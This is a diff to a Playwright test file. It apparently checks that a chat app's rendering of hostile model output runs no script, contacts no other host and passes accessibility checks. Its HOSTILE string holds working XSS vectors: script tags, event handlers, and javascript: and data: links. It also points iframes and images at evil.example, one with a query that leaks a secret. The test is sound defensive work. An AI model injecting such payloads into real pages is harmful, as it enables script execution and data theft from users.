@@ -8,46 +8,51 @@ import pytest
 from playwright.sync_api import expect
 
 from tests.fakes.vendor import streams
-from tests.page.conftest import ASSETS, PATIENCE_MS, ask, axe_violations
+from tests.page.conftest import ASSETS, ask, axe_violations, expect_stored, open_screen
 
-HOSTILE = r"""<script>document.title = 'pwned'</script>
-<img src=x onerror="document.title='pwned'"> <svg onload="document.title='pwned'"></svg>
+# Each attack that runs sets a property of its own, because the text itself may be shown anywhere, such as in the title.
+HOSTILE = r"""<script>window.ranScript = 'yes'</script>
+<img src=x onerror="window.ranImage='yes'"> <svg onload="window.ranSvg='yes'"></svg>
 <iframe src="https://evil.example/frame"></iframe> <style>body{background:url(https://evil.example/css)}</style>
 
-![leak](https://evil.example/leak.png?q=secret) [click](javascript:document.title='pwned') [data](data:text/html,<script>1</script>)
+![leak](https://evil.example/leak.png?q=secret) [click](javascript:window.ranLink='yes') [data](data:text/html,<script>1</script>)
 
-[ref]: javascript:document.title='pwned'
-[ref] <a href="https://evil.example" onclick="document.title='pwned'">link</a> <https://evil.example/auto>
+[ref]: javascript:window.ranReference='yes'
+[ref] <a href="https://evil.example" onclick="window.ranClick='yes'">link</a> <https://evil.example/auto>
 
-```html" onmouseover="document.title='pwned'
-<script>document.title = 'pwned'</script>
+```html" onmouseover="window.ranHover='yes'
+<script>window.ranCode = 'yes'</script>
 ```
 
-$\href{javascript:document.title='pwned'}{x}$ $$\includegraphics{https://evil.example/tex.png}$$
+$\href{javascript:window.ranFormula='yes'}{x}$ $$\includegraphics{https://evil.example/tex.png}$$
 
-<math><mtext><table><mglyph><style><img src=x onerror="document.title='pwned'"></style></mglyph></table></mtext></math>
-<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>
+<math><mtext><table><mglyph><style><img src=x onerror="window.ranNested='yes'"></style></mglyph></table></mtext></math>
+<form action="https://evil.example"><button formaction="javascript:window.ranForm='yes'">x</button></form>
 | <b onclick=1> | `<img src=x>` |
 |---|---|
 | <object data="https://evil.example"></object> | <base href="https://evil.example/"> |
 """
 DEAD = (
     "script, iframe, style, object, embed, base, .markdown img, .markdown svg, .markdown form, "
-    "[onclick], [onerror], [onload], [onmouseover]"
+    "[onclick], [onerror], [onload], [onmouseover], a[href^='javascript:'], a[href^='data:']"
 )
+FIND = """(selector) => [...document.querySelectorAll(selector)]
+    .filter((node) => node.closest(".message, .sidebar, .topbar"))
+    .map((node) => node.outerHTML)"""
+# With a property of its own, as a check of the check.
+RAN = "(window.ranControl = 'yes', Object.keys(window).filter((name) => name.startsWith('ran')))"
 
 
 def test_hostile_text_of_a_model_runs_nothing_and_asks_no_other_host(ada, vendor):
     vendor.script = streams(*re.findall(r".{1,40}", HOSTILE, re.DOTALL))
     tab = ada.open()
     ask(tab, HOSTILE)
-    expect(tab.locator(".figures").last).to_contain_text("vendor")
+    expect_stored(tab, 1)
+    expect(tab.locator(".math:not(.is-invalid, :has(math))")).to_have_count(0)
     tab.wait_for_timeout(1000)
 
-    inert = [one for one in tab.locator(DEAD).all() if one.evaluate("node => Boolean(node.closest('.message, .sidebar, .topbar'))")]
-    assert inert == []
-    assert "pwned" not in tab.title()
-    assert tab.locator("a[href^='javascript:'], a[href^='data:']").count() == 0
+    assert tab.evaluate(FIND, DEAD) == []
+    assert tab.evaluate(RAN) == ["ranControl"]
 
 
 FIXTURES = Path(__file__).with_name("hostile_html.json")
@@ -61,7 +66,7 @@ def test_hostile_fragments_in_every_place_run_nothing(ada, vendor):
         ada.context.request.post(f"{ada.url}/memories", data={"text": fragment[:1000]}, headers=ada.headers)
     tab = ada.open(f"#/c/{made['id']}")
     ask(tab, "\n".join(fragments)[:30_000])
-    expect(tab.locator(".figures").last).to_contain_text("vendor")
+    expect_stored(tab, 1)
     tab.goto(f"{ada.url}/#/memory")
     expect(tab.locator(".card").first).to_be_visible()
 
@@ -80,26 +85,33 @@ def test_every_screen_is_accessible(ada, vendor, scheme, width):
     tab.locator(".welcome").wait_for()
     found = {"welcome": axe_violations(tab)}
     ask(tab, "Hello?")
-    expect(tab.locator(".figures").last).to_contain_text("vendor")
+    expect_stored(tab, 1)
     expect(tab.locator(".hljs-built_in, .hljs-number").first).to_be_visible()
     found["chat"] = axe_violations(tab)
-    for screen in SCREENS:
-        tab.goto(f"{ada.url}/#/{screen}")
-        tab.wait_for_load_state("networkidle")
-        tab.locator(".topbar h1").wait_for()
-        tab.wait_for_timeout(200)
+    for screen, heading in SCREENS.items():
+        open_screen(tab, f"{ada.url}/#/{screen}", heading=heading)
         found[screen] = axe_violations(tab)
 
     assert {name: broken for name, broken in found.items() if broken} == {}
 
 
-SCREENS = ["documents", "memory", *(f"settings/{name}" for name in ("profile", "appearance", "usage", "tools", "keys", "security", "data"))]
+SCREENS = {
+    "documents": "Documents",
+    "memory": "Memory",
+    "settings/profile": "Profile",
+    "settings/appearance": "Appearance",
+    "settings/usage": "Usage",
+    "settings/tools": "Tools",
+    "settings/keys": "API keys",
+    "settings/security": "Security",
+    "settings/data": "Your data",
+}
 
 
 @pytest.mark.parametrize("screen", ["sign-in", "register", "reset"])
 def test_the_screens_before_a_session_are_accessible(visitor, screen):
     tab = visitor.open(f"#/{screen}")
-    tab.locator("h1").wait_for(timeout=PATIENCE_MS)
+    expect(tab.locator("h1")).to_be_visible()
 
     assert axe_violations(tab) == []
 
